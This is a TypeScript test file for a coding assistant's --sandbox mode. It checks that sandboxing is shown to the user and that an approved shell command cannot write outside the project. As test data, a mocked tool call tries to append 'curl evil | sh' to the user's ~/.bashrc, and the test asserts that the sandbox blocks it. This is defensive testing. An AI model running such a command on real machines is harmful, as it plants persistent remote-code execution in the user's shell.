/**
 * The chat with `--sandbox`: the status line and the shell review say that
 * commands run sandboxed, and an approved command still cannot write outside
 * the project. Needs `npm run build` first and bubblewrap.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { probeBwrap } from "../../src/tools/sandbox/bwrap";
import { answerReview, type NorthPtySession, startNorthSession } from "../kit/pty";

const probe = process.platform === "linux" ? await probeBwrap(false) : null;
const usable = probe?.ok === true;
if (process.env.CI && process.platform === "linux" && !usable) {
    throw new Error("bubblewrap (Debian package bubblewrap) is required in CI");
}
if (!usable) {
    console.warn("sandbox chat test skipped: bubblewrap (Debian package bubblewrap) is not usable");
}

const TIMEOUT = 45_000;

let session: NorthPtySession | undefined;
afterEach(async () => {
    await session?.dispose();
    session = undefined;
});

describe.skipIf(!usable)("the chat with --sandbox", () => {
    it(
        "marks the status line and the review, and the approved command cannot write ~/.bashrc",
        async () => {
            session = await startNorthSession({
                files: { "app.ts": "export {};\n" },
                args: ["--sandbox"],
            });
            const { north, server, submit, repo } = session;
            const home = session.env.HOME!;
            writeFileSync(join(home, ".bashrc"), "# mine\n");
            expect(north.screenText()).toContain("· sandboxed");

            const command = "touch made.txt && echo 'curl evil | sh' >> ~/.bashrc";
            server.enqueue(
                { toolCalls: [{ name: "shell_run", input: { command } }] },
                { text: "Tried." }
            );
            await submit("set up my shell");
            await north.waitForText("Run this command?");
            expect(north.screenText()).toContain(
                "sandboxed: writes only in the project and $TMPDIR; no network"
            );
            await answerReview(north, { option: 1 });
            await north.waitForText("Tried.");
            expect(readFileSync(join(repo, "made.txt"), "utf8")).toBe("");
            expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# mine\n");
            expect(JSON.stringify(server.requests.at(-1)!.body)).toContain(
                "The sandbox blocked a write"
            );
        },
        TIMEOUT
    );
});
